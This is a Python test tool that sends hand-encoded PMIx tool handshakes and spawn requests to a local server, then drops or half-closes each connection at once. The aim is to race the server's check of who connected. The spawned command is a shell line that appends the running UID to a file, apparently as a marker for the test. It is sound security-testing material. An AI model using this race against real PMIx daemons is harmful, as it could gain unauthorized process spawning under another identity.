"""hasty_tool.py PORT UID COUNT FILE: a PMIx tool of user UID that greets, asks for a process that makes FILE,
and is gone (closed, reset, or half closed) before anybody can ask the kernel who it was; COUNT times.

`stay` in the place of COUNT: once, and it waits for the answer: prints `welcome` or `refused`.
"""
import os
import socket
import struct
import sys
import time

port, uid, count, made = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
TOOL, SPAWN = 3, 9


def message(tag, body):
    return struct.pack(">iIII", 0, tag, len(body), 0) + body


def number(n):  # of the encoding v41
    n, out = n * 2, b""
    while n >= 0x80:
        out, n = out + bytes([n & 0x7F | 0x80]), n >> 7
    return out + bytes([n])


def text(s):
    return number(len(s) + 1) + s.encode() + b"\0"


def hello():
    body = b"native\0" + struct.pack(">I", 8) + struct.pack("=II", 0, 0) + bytes([TOOL])
    body += struct.pack(">II", 0, 0) + b"4.2.2\0v41\0\1hash\0"
    return struct.pack("=iIII", -1, 0xFFFFFFFF, len(body), 0) + body


def spawn():
    argv = ["/bin/sh", "-c", 'id -u >>"$0"', made]
    app = text(argv[0]) + number(len(argv)) + b"".join(map(text, argv))
    app += number(0) + text("/") + number(1) + b"\0"
    one = number(1)  # of these follows
    return message(100, one + bytes([SPAWN]) + one + b"\0" + one + b"\1" + one + app)


if os.getuid() == 0 and uid:
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
words = hello() + spawn()
half_closed = []
for i in range(1 if count == "stay" else int(count)):
    s = socket.socket()
    s.connect(("127.0.0.1", port))
    if i % 3 == 1:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    try:
        s.sendall(words)
        if count == "stay":
            s.settimeout(300)
            print("welcome" if s.recv(4096) else "refused", flush=True)
            for _ in range(3000):  # its program is not to find it gone
                if os.path.exists(made):
                    break
                time.sleep(0.02)
        elif i % 3 == 2:
            s.shutdown(socket.SHUT_WR)
            half_closed.append(s)
            continue
    except OSError:
        print("refused", flush=True)
    s.close()
print("done", flush=True)
for s in half_closed:
    s.settimeout(300)
    try:
        s.recv(4096)
    except OSError:
        pass
